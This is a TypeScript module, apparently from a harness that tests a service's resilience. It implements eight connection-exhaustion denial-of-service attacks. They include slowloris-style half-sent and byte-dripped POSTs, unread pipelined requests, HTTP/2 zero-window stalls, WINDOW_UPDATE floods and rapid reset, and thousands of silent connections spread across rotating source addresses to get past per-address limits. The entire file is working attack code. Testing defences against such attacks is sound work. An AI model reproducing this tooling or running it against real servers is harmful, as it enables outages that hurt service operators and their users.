/**
 * Attacks by connections: they are opened, and not used as they should be.
 *
 * @module
 */

import net, { type Socket } from "node:net";
import { address, onFour, open, openMany, pause, stay } from "./attack_clients.ts";
import type { AttackKind } from "./attack_task.ts";
import { flood, preface, requests } from "./http2_frames.ts";

/** Connections that begin a post and send nothing more, or a byte a second. */
function halfPosts(
  count: number,
  { drips }: { drips: boolean },
): AttackKind["run"] {
  return async ({ urls }, traffic, untilMs) => {
    const sockets: Socket[] = [];
    const host = new URL(String(urls.intake)).host;
    await openMany(count, untilMs, async (index) => {
      const socket = await open(traffic, String(urls.intake), {
        from: address(Math.floor(index / 200)),
      });
      socket.write(
        `POST /v1/intake HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 60000\r\n\r\n{`,
      );
      socket.resume();
      sockets.push(socket);
    });
    while (performance.now() < untilMs) {
      await pause(1_000);
      if (drips) {
        for (const socket of sockets) if (socket.writable) socket.write(" ");
      }
    }
  };
}

/** All of them, by name. */
export const byConnections: Readonly<Record<string, AttackKind>> = {
  pipelined: {
    about: "1,000 connections that pipeline 90 GET /api/openapi.json each and never read",
    run: async ({ urls }, traffic, untilMs) => {
      const host = new URL(String(urls.intake)).host;
      const request = `GET /api/openapi.json HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
      await openMany(1_000, untilMs, async (index) => {
        const socket = await open(traffic, String(urls.intake), {
          from: address(Math.floor(index / 200)),
        });
        socket.pause();
        traffic.requests += 90;
        socket.write(request.repeat(90));
      });
      await stay(untilMs);
    },
  },
  zero_window: {
    about: "1,000 HTTP/2 connections with a window of 0, 100 GET /api/openapi.json on each",
    needsTls: true,
    run: async ({ urls }, traffic, untilMs) => {
      const authority = new URL(String(urls.intake)).host;
      await openMany(1_000, untilMs, async (index) => {
        const from = address(Math.floor(index / 200));
        const socket = await open(traffic, String(urls.intake), {
          from,
          alpn: "h2",
        });
        socket.resume();
        traffic.requests += 100;
        if (socket.writable) {
          socket.write(
            Buffer.concat([
              preface(0),
              requests(authority, "/api/openapi.json", { count: 100 }),
            ]),
          );
        }
      });
      await stay(untilMs);
    },
  },
  window_updates: {
    about: "WINDOW_UPDATE frames without an end, on 4 HTTP/2 connections",
    needsTls: true,
    run: async ({ urls }, traffic, untilMs) => {
      const frames = flood("window_update", 4_000);
      await onFour(String(urls.intake), traffic, untilMs, () => {
        traffic.requests += 4_000;
        return frames;
      });
    },
  },
  rapid_reset: {
    about: "HTTP/2 requests that are reset as soon as they are sent, on 4 connections",
    needsTls: true,
    run: async ({ urls }, traffic, untilMs) => {
      const authority = new URL(String(urls.intake)).host;
      await onFour(String(urls.intake), traffic, untilMs, (round) => {
        traffic.requests += 100;
        return requests(authority, "/api/openapi.json", {
          count: 100,
          first: 100 * round,
          isReset: true,
        });
      });
    },
  },
  half_posts: {
    about: "11,000 connections that begin a post and go silent",
    run: halfPosts(11_000, { drips: false }),
  },
  dripped_posts: {
    about: "5,000 connections that send a byte of their post a second",
    run: halfPosts(5_000, { drips: true }),
  },
  silent: {
    about: "11,000 connections that send nothing at all: a TLS handshake that hangs, or no request",
    run: async ({ urls }, traffic, untilMs) => {
      const { hostname, port } = new URL(String(urls.intake));
      await openMany(11_000, untilMs, (index) => {
        const localAddress = address(Math.floor(index / 200));
        const socket = traffic.watch(
          net.connect({ host: hostname, port: Number(port), localAddress }),
        );
        return new Promise((settle) => {
          socket.once("connect", settle);
          socket.once("close", settle);
        });
      });
      await stay(untilMs);
    },
  },
  one_address: {
    about: "one address that opens 3,000 connections and asks on each",
    run: async ({ urls }, traffic, untilMs) => {
      const host = new URL(String(urls.intake)).host;
      await openMany(3_000, untilMs, async () => {
        const socket = await open(traffic, String(urls.intake), {
          from: address(0),
        });
        socket.resume();
        traffic.requests += 1;
        if (socket.writable) {
          socket.write(`GET /healthz HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
        }
      });
      await stay(untilMs);
    },
  },
};
